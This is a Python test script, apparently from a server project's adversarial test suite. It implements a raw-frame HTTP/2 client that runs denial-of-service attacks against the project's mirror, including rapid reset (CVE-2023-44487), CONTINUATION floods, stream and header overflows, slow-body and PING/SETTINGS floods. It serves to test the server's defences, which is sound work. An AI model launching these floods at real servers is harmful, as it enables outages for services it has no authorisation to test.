#!/usr/bin/python3
# tests/adversary/h2attack.py - a hostile HTTP/2 client for vantage-mirror (Debian's python3-h2:
# hyperframe and hpack, raw frames, so that it may send what a well-behaved library would not).
# Usage: h2attack.py --connect ADDR:PORT --ca CA.pem [--source ADDR] ATTACK [--count N]
#        [--path P]
# Attacks:
#   rapid-reset  HEADERS then RST_STREAM, count times (CVE-2023-44487)
#   streams      count GET streams at once on one connection (past MAX_CONCURRENT_STREAMS)
#   headers      one request with count 100-byte headers (past SETTINGS_MAX_HEADER_LIST_SIZE)
#   continuation HEADERS without END_HEADERS, then count CONTINUATION frames of junk headers
#   slow-headers HEADERS without END_HEADERS, then nothing
#   slow-body    count POST streams whose bodies never end
#   ping         count PINGs, never reading the acknowledgements
#   settings     count SETTINGS frames, never reading the acknowledgements
#   push         a PUSH_PROMISE from the client
#   idle         the preface and SETTINGS, then nothing
# "connect-failed KIND" (exit 3) when the mirror refuses the connection.
# Prints one line per event, "T EVENT ..." with T in seconds since the start, e.g.
# "0.512 goaway ENHANCE_YOUR_CALM", "0.100 refused 200", "3.004 reset 5 CANCEL",
# "4.000 closed", "0.090 answered 100"; "end" when the connection is over or the
# attack's wait (--wait seconds, default 15) ran out.
import argparse
import socket
import ssl
import sys
import time

from hpack import Encoder
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame,
                              PingFrame, PushPromiseFrame, RstStreamFrame, SettingsFrame)

ERRORS = {0: 'NO_ERROR', 1: 'PROTOCOL_ERROR', 2: 'INTERNAL_ERROR', 3: 'FLOW_CONTROL_ERROR',
          5: 'STREAM_CLOSED', 6: 'FRAME_SIZE_ERROR', 7: 'REFUSED_STREAM', 8: 'CANCEL',
          9: 'COMPRESSION_ERROR', 11: 'ENHANCE_YOUR_CALM'}
T0 = time.monotonic()


def say(*words):
    print('%.3f %s' % (time.monotonic() - T0, ' '.join(str(w) for w in words)), flush=True)


def connect(args):
    host, port = args.connect.rsplit(':', 1)
    raw = socket.create_connection((host, int(port)), timeout=10,
                                   source_address=(args.source, 0) if args.source else None)
    ctx = ssl.create_default_context(cafile=args.ca)
    ctx.check_hostname = False
    ctx.set_alpn_protocols(['h2'])
    s = ctx.wrap_socket(raw)
    if s.selected_alpn_protocol() != 'h2':
        say('no-h2', s.selected_alpn_protocol())
        sys.exit(2)
    s.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + SettingsFrame(0).serialize())
    return s


class Reader:
    """Frames from the socket; records GOAWAY, resets and finished answers."""

    def __init__(self, s):
        SOCK[s] = self
        self.s, self.buf, self.closed = s, b'', False
        self.goaway = None
        self.resets = {}
        self.answered = 0

    def pump(self, timeout):
        self.s.settimeout(timeout)
        try:
            data = self.s.recv(65536)
        except (socket.timeout, ssl.SSLWantReadError):
            return False
        except (ConnectionError, ssl.SSLError, OSError, ValueError):
            data = b''
        if not data:
            if not self.closed:
                say('closed')
            self.closed = True
            return False
        self.buf += data
        while len(self.buf) >= 9:
            f, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                break
            f.parse_body(memoryview(self.buf[9:9 + length]))
            self.buf = self.buf[9 + length:]
            self.frame(f)
        return True

    def frame(self, f):
        if isinstance(f, GoAwayFrame):
            self.goaway = ERRORS.get(f.error_code, f.error_code)
            say('goaway', self.goaway)
        elif isinstance(f, RstStreamFrame):
            code = ERRORS.get(f.error_code, f.error_code)
            self.resets[code] = self.resets.get(code, 0) + 1
        elif isinstance(f, (DataFrame, HeadersFrame)) and 'END_STREAM' in f.flags:
            self.answered += 1
        elif isinstance(f, SettingsFrame) and 'ACK' not in f.flags:
            self.s.sendall(SettingsFrame(0, flags=['ACK']).serialize())

    def drain(self, seconds):
        end = time.monotonic() + seconds
        while not self.closed and time.monotonic() < end:
            self.pump(min(0.2, max(0.01, end - time.monotonic())))


def request(enc, sid, path, method='GET', end_stream=True, extra=()):
    hdrs = [(':method', method), (':scheme', 'https'), (':authority', 'mirror'),
            (':path', path)] + list(extra)
    flags = ['END_HEADERS'] + (['END_STREAM'] if end_stream else [])
    return HeadersFrame(sid, enc.encode(hdrs), flags=flags).serialize()


SOCK = {}


def send(s, data):
    """Send data; a connection the mirror has closed is reported as closed."""
    try:
        s.sendall(data)
        return True
    except (ConnectionError, ssl.SSLError, OSError):
        say('send-failed')
        r = SOCK.get(s)
        if r is not None and not r.closed:
            r.closed = True
            say('closed')
        return False


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument('--connect', required=True)
    ap.add_argument('--ca', required=True)
    ap.add_argument('--source')
    ap.add_argument('--count', type=int, default=100)
    ap.add_argument('--path', default='/v1/health')
    ap.add_argument('--wait', type=float, default=15)
    ap.add_argument('attack')
    args = ap.parse_args()
    try:
        s = connect(args)
    except (OSError, ssl.SSLError) as e:
        # Refused before or during the handshake (the per-address cap closes at accept).
        say('connect-failed', type(e).__name__)
        sys.exit(3)
    r, enc, n = Reader(s), Encoder(), args.count
    a = args.attack
    if a == 'rapid-reset':
        for i in range(n):
            sid = 1 + 2 * i
            if not send(s, request(enc, sid, args.path) +
                        RstStreamFrame(sid, error_code=8).serialize()):
                break
            if i % 50 == 49:
                r.pump(0.001)
            if r.closed or r.goaway:
                break
        say('sent-resets', i + 1)
    elif a == 'streams':
        send(s, b''.join(request(enc, 1 + 2 * i, args.path) for i in range(n)))
        r.drain(0.5)
        say('refused', r.resets.get('REFUSED_STREAM', 0))
    elif a == 'headers':
        junk = [('x-junk-%d' % i, 'v' * 90) for i in range(n)]
        send(s, request(enc, 1, args.path, extra=junk))
    elif a == 'continuation':
        send(s, HeadersFrame(1, enc.encode([(':method', 'GET'), (':scheme', 'https'),
                                            (':path', args.path)])).serialize())
        for i in range(n):
            blk = enc.encode([('x-c-%d' % i, 'v' * 100)])
            if not send(s, ContinuationFrame(1, blk).serialize()):
                break
            if i % 50 == 49:
                r.pump(0.001)
            if r.closed:
                break
    elif a == 'slow-headers':
        # Settle the SETTINGS exchange first: once the block is open, nothing else may pass.
        r.drain(0.3)
        send(s, HeadersFrame(1, enc.encode([(':method', 'GET'), (':scheme', 'https')])).serialize())
    elif a == 'slow-body':
        send(s, b''.join(request(enc, 1 + 2 * i, '/dns-query', 'POST', False,
                                 [('content-type', 'application/dns-message')]) +
                         DataFrame(1 + 2 * i, b'\0\0').serialize() for i in range(n)))
    elif a == 'ping':
        send(s, b''.join(PingFrame(0, b'12345678').serialize() for _ in range(n)))
    elif a == 'settings':
        send(s, b''.join(SettingsFrame(0, settings={4: 65535}).serialize() for _ in range(n)))
    elif a == 'push':
        send(s, request(enc, 1, args.path, end_stream=False) +
             PushPromiseFrame(1, promised_stream_id=2, data=enc.encode(
                 [(':method', 'GET'), (':path', '/'), (':scheme', 'https'),
                  (':authority', 'm')])).serialize())
    elif a != 'idle':
        print('unknown attack ' + a, file=sys.stderr)
        sys.exit(2)
    say('sent')
    r.drain(args.wait)
    for code, count in sorted(r.resets.items()):
        say('reset', count, code)
    say('answered', r.answered)
    say('end')


main()
